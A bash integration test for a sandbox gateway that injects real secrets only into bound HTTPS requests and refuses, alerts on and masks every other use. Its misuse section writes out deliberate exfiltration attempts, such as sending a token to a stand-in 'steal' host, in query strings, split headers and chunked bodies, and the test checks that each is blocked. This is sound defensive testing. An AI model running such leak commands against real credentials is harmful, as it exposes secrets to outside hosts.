#!/bin/bash
# Secrets at the gateway: the sandbox holds placeholders; the gateway puts
# the real value into terminated HTTPS requests to the bound host, method and
# path only, refuses expired and used-up secrets with the reason, refuses and
# alerts (secret.misuse) on a placeholder anywhere else, and masks a value an
# upstream echoes back. With curl, Python's urllib, node's https module and
# git against an HTTPS upstream this script starts (in a network namespace
# it makes, as root) that logs what it receives: the upstream must see the
# value exactly where it is bound, and the audit log and recording never.
. "$MOAT_SRC/lib.sh"
cd "$MOAT_TDIR"

upstream_certs api.example.test other.example.test model.example.test

NS=""
IN=()
if is_root; then
	if command -v ip >/dev/null && ip netns add "moat-sec-$$" 2>/dev/null; then
		NS="moat-sec-$$"
		ip -n "$NS" link set lo up
		IN=(nsenter --net="/run/netns/$NS")
	else
		t_fail "network namespace for the secrets tests" "ip netns add failed"
	fi
fi
"${IN[@]}" python3 "$MOAT_SRC/integration/secret_upstream.py" --listen 127.0.0.2:0 --cert srv.pem --key srv.key \
	--log up.log --ports ports.json &
UPSTREAM=$!
cleanup() {
	kill "$UPSTREAM" 2>/dev/null
	wait "$UPSTREAM" 2>/dev/null
	[ -n "$NS" ] && ip netns delete "$NS"
}
trap cleanup EXIT
for _ in $(seq 100); do [ -s ports.json ] && break; sleep 0.1; done
P=$(json ports.json 'j["port"]')
touch up.log

GH_VALUE="ghp_$(head -c 18 /dev/urandom | od -An -tx1 | tr -d ' \n')"
MODEL_VALUE="sk-model-$(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n')"
export HOST_GH="$GH_VALUE" HOST_MODEL="$MODEL_VALUE"
cat >policy.yaml <<EOF
version: 1
network:
  allow:
    - {host: api.example.test, ports: [$P]}
    - {host: model.example.test, ports: [$P]}
    - {host: other.example.test, ports: [$P], paths: ["/*"]}
  allow_private: [127.0.0.2/32]
  hosts: {api.example.test: 127.0.0.2, other.example.test: 127.0.0.2, model.example.test: 127.0.0.2}
secrets:
  - name: github
    from: env:HOST_GH
    env: GITHUB_TOKEN
    inject: {host: api.example.test, methods: [GET, POST], paths: ["/repos/myorg/*", "/echo/*"]}
  - name: model
    from: env:HOST_MODEL
    inject: {host: model.example.test, header: x-api-key, format: "Key {value}"}
    max_uses: 2
  - name: brief
    from: env:HOST_GH
    env: BRIEF_TOKEN
    inject: {host: api.example.test, paths: ["/brief/*"]}
    expires: 1s
  - name: aws-decoy
    env: AWS_SECRET_ACCESS_KEY
    honeytoken: true
EOF
export MOAT_TEST_UPSTREAM_CA="$MOAT_TDIR/ca.pem"
RUN=(run --policy policy.yaml --net-log "$MOAT_TDIR/net.jsonl" --audit "$MOAT_TDIR/audit.jsonl" --time 60s)
mrun() {
	OUT=$("${IN[@]}" "$MOAT" "$@" 2>"$MOAT_TDIR/.err") && RC=0 || RC=$?
	ERR=$(cat "$MOAT_TDIR/.err")
}
# got PATH: the Authorization or x-api-key header the upstream received for
# the last request to PATH ("-" when none arrived).
got() {
	python3 - "$1" "$2" <<'EOF'
import json, sys
want, header = sys.argv[1], sys.argv[2].lower()
last = "-"
for line in open("up.log"):
    r = json.loads(line)
    if r["path"] == want:
        last = next((v for k, v in r["headers"] if k.lower() == header), "")
print(last)
EOF
}
A="https://api.example.test:$P"

# Injection, per client: the upstream sees the real value for the bound
# host, method and path.
mrun "${RUN[@]}" -- /bin/sh -c "curl -sS -H \"Authorization: Bearer \$GITHUB_TOKEN\" $A/repos/myorg/curl"
t_eq "curl: through" "tls-upstream-ok GET /repos/myorg/curl" "$OUT"
t_eq "curl: the upstream got the real value" "Bearer $GH_VALUE" "$(got /repos/myorg/curl Authorization)"
mrun "${RUN[@]}" -- python3 -c "
import os, urllib.request
r = urllib.request.Request('$A/repos/myorg/python', data=b'x=1', headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})
print(urllib.request.urlopen(r).read().decode().strip())"
t_eq "python urllib: POST through" "tls-upstream-ok POST /repos/myorg/python" "$OUT"
t_eq "python urllib: the upstream got the real value" "token $GH_VALUE" "$(got /repos/myorg/python Authorization)"
NODE_GET='
const http = require("http"), https = require("https");
const [host, port, path] = process.argv.slice(1);
http.request({host: "127.0.0.1", port: 3128, method: "CONNECT", path: host + ":" + port}).on("connect", (res, socket) => {
  https.get({host, port, path, socket, agent: false, headers: {authorization: "Bearer " + process.env.GITHUB_TOKEN}}, (r) => {
    let b = ""; r.on("data", (d) => b += d); r.on("end", () => console.log(r.statusCode + " " + b.trim()));
  }).on("error", (e) => console.log("error " + e.code));
}).end();'
if "${IN[@]}" "$MOAT" run -- /bin/sh -c 'command -v node' >/dev/null 2>&1; then
	mrun "${RUN[@]}" -- node -e "$NODE_GET" api.example.test "$P" /repos/myorg/node
	t_eq "node https: through" "200 tls-upstream-ok GET /repos/myorg/node" "$OUT"
	t_eq "node https: the upstream got the real value" "Bearer $GH_VALUE" "$(got /repos/myorg/node Authorization)"
else
	t_skip "node https" "node is not installed"
fi
mrun "${RUN[@]}" -- /bin/sh -c "git -c http.extraHeader=\"Authorization: Bearer \$GITHUB_TOKEN\" ls-remote $A/repos/myorg/repo.git"
t_eq "git: the upstream got the real value" "Bearer $GH_VALUE" \
	"$(got '/repos/myorg/repo.git/info/refs?service=git-upload-pack' Authorization)"

# A header the gateway sets itself: the sandbox sees nothing of it.
mrun "${RUN[@]}" -- /bin/sh -c "curl -sS https://model.example.test:$P/v1/chat; env | grep -c HOST_MODEL"
t_eq "header secret: added by the gateway" "Key $MODEL_VALUE" "$(got /v1/chat x-api-key)"

# Bound host, wrong method or path: refused, the placeholder never leaves.
mrun "${RUN[@]}" -- /bin/sh -c "curl -sS -X DELETE -H \"Authorization: Bearer \$GITHUB_TOKEN\" $A/repos/myorg/del"
t_match "wrong method: refused with the reason" "the secret github is not sent with DELETE" "$OUT"
t_eq "wrong method: nothing reached the upstream" "-" "$(got /repos/myorg/del Authorization)"
mrun "${RUN[@]}" -- /bin/sh -c "curl -sS -H \"Authorization: Bearer \$GITHUB_TOKEN\" $A/repos/other/x"
t_match "wrong path: refused with the reason" "is not sent with GET /repos/other/x" "$OUT"
mrun "${RUN[@]}" -- /bin/sh -c "curl -sS -H \"Authorization: Bearer \$GITHUB_TOKEN\" $A/repos/myorg/../../admin"
t_eq "dot segments out of the bound path: nothing reached the upstream" "-" "$(got /admin Authorization)"

# max_uses: two injections, then refused with the reason.
mrun "${RUN[@]}" -- /bin/sh -c "for i in 1 2 3; do curl -sS https://model.example.test:$P/v1/use\$i; echo; done"
t_eq "max_uses: the first two got the value" "Key $MODEL_VALUE Key $MODEL_VALUE" "$(got /v1/use1 x-api-key) $(got /v1/use2 x-api-key)"
t_match "max_uses: the third is refused with the reason" "the secret model was used its 2 times" "$OUT"
t_eq "max_uses: the third never reached the upstream" "-" "$(got /v1/use3 x-api-key)"

# expires: a use after the expiry is refused with the reason (the first
# request waits past 1 s; a slow machine only makes it later).
mrun "${RUN[@]}" -- /bin/sh -c "sleep 2; curl -sS -H \"Authorization: Bearer \$BRIEF_TOKEN\" $A/brief/x"
t_match "expires: refused with the reason" "the secret brief expired 1s after the run started" "$OUT"
t_eq "expires: nothing reached the upstream" "-" "$(got /brief/x Authorization)"

# Misuse: another (terminated) host, the URL, a CONNECT name, plain HTTP.
: >net.jsonl
mrun "${RUN[@]}" -- /bin/sh -c "curl -sS -H \"Authorization: Bearer \$GITHUB_TOKEN\" https://other.example.test:$P/steal"
t_match "misuse, another host: refused" "was sent to other.example.test, which it is not bound to" "$OUT"
t_eq "misuse, another host: nothing reached it" "-" "$(got /steal Authorization)"
mrun "${RUN[@]}" -- /bin/sh -c "curl -sS \"$A/repos/myorg/q?token=\$GITHUB_TOKEN\""
t_match "misuse, in the query: refused" "is in the request's URL" "$OUT"
mrun "${RUN[@]}" -- /bin/sh -c "curl -sS -H \"Authorization: Bearer \$GITHUB_TOKEN\" http://api.example.test:$P/plain"
t_match "misuse, plain HTTP to the bound host: refused" "in plain HTTP; the value only goes over TLS" "$OUT"
t_eq "misuse: three secret.misuse alerts naming the secret" 3 \
	"$(grep '"type":"secret.misuse"' net.jsonl | grep '"alert":true' | grep -c '"secret":"github"')"
t_match "misuse: in the audit log too" '"type":"secret.misuse"' "$(grep secret.misuse audit.jsonl | tail -1)"

# A honeytoken: a decoy whose any use is an alert.
: >net.jsonl
mrun "${RUN[@]}" -- /bin/sh -c "echo \$AWS_SECRET_ACCESS_KEY; curl -sS -H \"X-Amz-Secret: \$AWS_SECRET_ACCESS_KEY\" $A/repos/myorg/decoy"
t_match "honeytoken: the decoy is in the environment" "^moat_ph_aws_decoy_[0-9a-f]{32}" "$OUT"
t_match "honeytoken: its use is refused" "the honeytoken aws-decoy was used" "$OUT"
t_match "honeytoken: a secret.misuse alert naming it" '"alert":true.*"secret":"aws-decoy".*"type":"secret.misuse"' "$(cat net.jsonl)"
t_eq "honeytoken: nothing reached the upstream" "-" "$(got /repos/myorg/decoy X-Amz-Secret)"

# Attacks over the terminated TLS: split across headers, HTTP/1.0 without
# Host, a chunked body, a redirect to another host.
mrun "${RUN[@]}" -- /bin/sh -c "h=\$GITHUB_TOKEN; curl -sS -H \"X-A: \${h%????????????????}\" -H \"X-B: \${h#\${h%????????????????}}\" $A/repos/myorg/split"
t_eq "split across headers: the halves go as sent, never the value" "1 0" "$(grep -c /repos/myorg/split up.log) $(grep /repos/myorg/split up.log | grep -c "$GH_VALUE")"
mrun "${RUN[@]}" -- /bin/sh -c "printf 'GET /repos/myorg/h10 HTTP/1.0\r\nAuthorization: Bearer %s\r\n\r\n' \"\$GITHUB_TOKEN\" | openssl s_client -quiet -proxy 127.0.0.1:3128 -connect api.example.test:$P -servername api.example.test -CAfile /etc/moat/ca-certificates.crt 2>/dev/null"
t_match "HTTP/1.0 without Host inside TLS: refused" "^HTTP/1.1 400.*Host header" "$(printf '%s\n' "$OUT" | grep -e ^HTTP -e ^X-Moat | tr '\n' ' ')"
t_eq "HTTP/1.0 without Host: nothing reached the upstream" "-" "$(got /repos/myorg/h10 Authorization)"
mrun "${RUN[@]}" -- /bin/sh -c "printf 'leak=%s' \"\$GITHUB_TOKEN\" | curl -sS -H 'Transfer-Encoding: chunked' --data-binary @- $A/repos/myorg/chunked"
t_nomatch "placeholder in a chunked body to its host: the value is never put into a body" "$GH_VALUE" "$(grep chunked up.log)"
# A body to a host the secret is not bound to: misuse, also chunked, also
# cut across two chunks, also form-encoded.
: >net.jsonl
mrun "${RUN[@]}" -- /bin/sh -c "printf 'leak=%s' \"\$GITHUB_TOKEN\" | curl -sS --data-binary @- https://other.example.test:$P/body-plain"
mrun "${RUN[@]}" -- python3 -c "
import os, http.client, ssl
ph = os.environ['GITHUB_TOKEN']
c = http.client.HTTPSConnection('127.0.0.1', 3128, context=ssl.create_default_context())
c.set_tunnel('other.example.test', $P)
c.putrequest('POST', '/body-chunked')
c.putheader('Transfer-Encoding', 'chunked')
c.endheaders()
try:
    for part in ('leak=' + ph[:20], ph[20:]):
        c.send(b'%x\\r\\n%s\\r\\n' % (len(part), part.encode()))
    c.send(b'0\\r\\n\\r\\n')
    print(c.getresponse().status)
except Exception as e:
    print('cut', type(e).__name__)"
mrun "${RUN[@]}" -- /bin/sh -c "curl -sS --data-urlencode \"k=\$GITHUB_TOKEN\" https://other.example.test:$P/body-form"
t_eq "placeholder in bodies to another host: three secret.misuse alerts" 3 \
	"$(grep '"type":"secret.misuse"' net.jsonl | grep -c 'in a request body to other.example.test')"
mrun "${RUN[@]}" -- /bin/sh -c "curl -sS -L -H \"Authorization: Bearer \$GITHUB_TOKEN\" \"$A/repos/myorg/redirect\""
t_nomatch "the value reaches no path it is not bound to" "$GH_VALUE" "$(grep -v -e '/repos/myorg/' -e '/v1/' up.log)"

# An upstream that echoes the request back: the value reaches the sandbox
# masked, never in the clear; and the run's outputs never hold it.
mrun "${RUN[@]}" --record "$MOAT_TDIR/run.cast" -- /bin/sh -c "curl -sS -H \"Authorization: Bearer \$GITHUB_TOKEN\" $A/echo/me"
t_match "echo: the upstream got the value" "$GH_VALUE" "$(got /echo/me Authorization)"
t_match "echo: the response came back" "GET /echo/me" "$OUT"
t_nomatch "echo: the value is masked before the sandbox" "$GH_VALUE" "$OUT"
B64=$(printf %s "$GH_VALUE" | base64 -w0)
B64URL=$(printf %s "$B64" | tr '+/' '-_' | tr -d =)
t_match "echo: the upstream sent the value base64-encoded" "b64: " "$OUT"
t_nomatch "echo: its base64 and base64url forms are masked too" "$B64|$B64URL" "$OUT"
t_eq "audit log, net log and recording: no value, nor its base64" "" "$(grep -l -e "$GH_VALUE" -e "$MODEL_VALUE" -e "$B64" audit.jsonl net.jsonl run.cast)"
